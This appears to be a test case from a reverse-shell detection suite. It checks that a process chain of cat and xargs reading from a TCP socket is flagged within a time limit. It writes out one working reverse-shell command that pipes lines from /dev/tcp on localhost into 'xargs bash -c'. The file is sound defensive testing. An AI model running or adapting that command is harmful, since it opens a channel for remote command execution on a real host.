# R30: xargs runs each line of a peer
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $cat
#   reverse_shell.process_list.1.process_id: $xargs

#: prepare
. lib/peers.sh
commander 4607 300 'sleep 0.1'
#: act
. lib/peers.sh
act
bash -c 'cat < /dev/tcp/127.0.0.1/4607 | xargs -I{} bash -c {}' < /dev/null > /dev/null 2>&1 &
who cat cat; who xargs 'xargs -I\{\} bash -c \{\}'
await 'at $cat 0 socket:* && same $cat 1 $xargs 0'
